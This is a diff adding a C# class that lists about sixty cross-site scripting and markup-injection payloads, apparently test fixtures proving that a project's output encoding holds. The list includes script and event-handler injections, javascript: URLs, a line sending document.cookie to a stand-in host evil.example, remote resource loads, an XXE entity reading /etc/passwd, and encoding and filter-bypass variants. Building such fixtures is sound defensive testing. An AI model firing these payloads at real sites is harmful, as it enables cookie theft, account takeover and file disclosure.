@@ -1,0 +1,73 @@
+using System.Collections.Immutable;
+
+namespace RoleGuide.Proofs.Payloads;
+
+/// <summary>Markup that would run a script, leave its element or its attribute, or load something, if it reached a page as markup.</summary>
+internal static class ScriptPayloads
+{
+    private static readonly ImmutableArray<string> s_texts =
+    [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+        "</script><script>alert(1)</script>",
+        "</title></head><body><script>alert(1)</script>",
+        "</textarea></style></noscript><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert&#40;1)</script></svg>",
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
+        "<math href=\"javascript:alert(1)\">a</math>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<iframe src=javascript:alert(1)>",
+        "<object data=javascript:alert(1)>",
+        "<embed src=//evil.example/x.svg>",
+        "<base href=//evil.example/>",
+        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>*{background:url(//evil.example/x)}</style>",
+        "<form action=javascript:alert(1)><button>go</button></form>",
+        "<input autofocus onfocus=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<a href=\"javascript:alert(1)\">a</a>",
+        "<a href=\" &#106;avascript:alert(1)\">a</a>",
+        "<body onload=alert(1)>",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<!-- --!><script>alert(1)</script> -->",
+        "<![CDATA[><script>alert(1)</script>]]>",
+        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+        "\" onmouseover=\"alert(1)",
+        "' onmouseover='alert(1)",
+        "\"><script>alert(1)</script>",
+        "'><script>alert(1)</script>",
+        "` onmouseover=alert(1) x=`",
+        "x\" style=\"background:url(javascript:alert(1))",
+        "x\" autofocus onfocus=\"eval(name)",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;alert(1)&#60;/script&#62;",
+        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+        "</script><!--<script>",
+        "<!--<script>",
+        "{\"@type\":\"x\"}</script><script>eval('alert(1)')</script>",
+        "${alert(1)}{{constructor.constructor('alert(1)')()}}",
+        "]]></description><script>alert(1)</script>",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "＜script＞alert(1)＜/script＞",
+        "<script\n>alert(1)</script\n>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<p hidden id=main class=x data-x>a",
+        "<x-y z={alert(1)}>",
+        "<table><td><a><table><td><a href=javascript:alert(1)>",
+        "<select><option><script>alert(1)</script>",
+        "<plaintext>",
+        "<xmp><script>alert(1)</script>",
+        "<frameset><frame src=javascript:alert(1)>",
+    ];
+
+    public static readonly ImmutableArray<Payload> All = [.. s_texts.Select(text => new Payload("script", text))];
+}
